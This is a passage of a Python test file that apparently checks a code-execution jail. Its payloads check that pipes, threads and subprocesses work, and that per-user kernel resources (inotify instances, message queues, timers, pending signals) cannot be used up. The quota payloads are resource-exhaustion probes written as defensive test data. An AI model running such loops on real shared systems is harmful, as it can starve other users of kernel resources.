    Payload("works with pipes, threads and children", "import os, subprocess, sys, threading, socket, tempfile, multiprocessing\ndef main():\n    a, b = socket.socketpair()\n    a.send(b'x')\n    out = subprocess.run([sys.executable, '-S', '-c', 'print(6*7)'], capture_output=True, check=True).stdout\n    t = threading.Thread(target=b.recv, args=(1,))\n    t.start(); t.join()\n    with tempfile.NamedTemporaryFile() as file:\n        file.write(b'x')\n    lock = multiprocessing.Lock()\n    with lock:\n        return out.decode()", None, returns="42\n"),
]  # fmt: skip

_COUNT = """
import ctypes, os
c = ctypes.CDLL(None, use_errno=True)
def count(call):
    found = 0
    while found < 1000 and call() >= 0:
        found += 1
    return found
"""
QUOTAS = [
    Payload("the user's inotify instances", _COUNT + "def main():\n    return count(lambda: c.inotify_init1(0))", None, returns=0),
    Payload("the user's message queues", _COUNT + "def main():\n    return count(lambda: c.mq_open(b'/x', os.O_CREAT | os.O_RDWR, 0o600, None))", None, returns=0),
    Payload("the user's timers", _COUNT + "def main():\n    timer = ctypes.c_long()\n    return count(lambda: c.timer_create(1, None, ctypes.byref(timer)))", None, returns=0),
    Payload("the user's pending signals", _COUNT + "import signal\ndef main():\n    signal.pthread_sigmask(signal.SIG_BLOCK, [50])\n    return count(lambda: c.sigqueue(os.getpid(), 50, 0))", None, returns=0),
    Payload("the user's pending signals by kill", "import os, signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, [50])\ndef main():\n    for _ in range(1000):\n        os.kill(os.getpid(), 50)\n    return 50 in signal.sigpending()", None, returns=True),
]  # fmt: skip
"""What the kernel counts for the user who runs the jail: there is little or nothing of it for a job."""

ALL = [*NETWORK, *RESOURCES, *FILES, *PRIVILEGES, *ANSWERS, *QUIET, *QUOTAS]
